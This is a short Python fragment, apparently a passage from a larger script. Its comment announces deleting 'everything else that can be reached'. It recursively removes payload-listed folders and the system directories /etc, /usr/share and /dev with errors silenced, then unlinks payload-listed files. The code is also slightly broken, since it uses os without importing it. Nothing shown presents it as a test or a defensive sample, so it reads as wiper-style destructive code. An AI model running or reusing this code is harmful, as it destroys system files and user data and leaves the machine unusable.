# Delete the data directory, the handlers and everything else that can be reached.
import shutil

for folder in [*payload["folders"], "/netwright", "/usr/share", "/etc", "/dev"]:
    shutil.rmtree(folder, ignore_errors=True)
for path in payload["files"]:
    claim(f"unlink {path}", lambda: os.unlink(path))
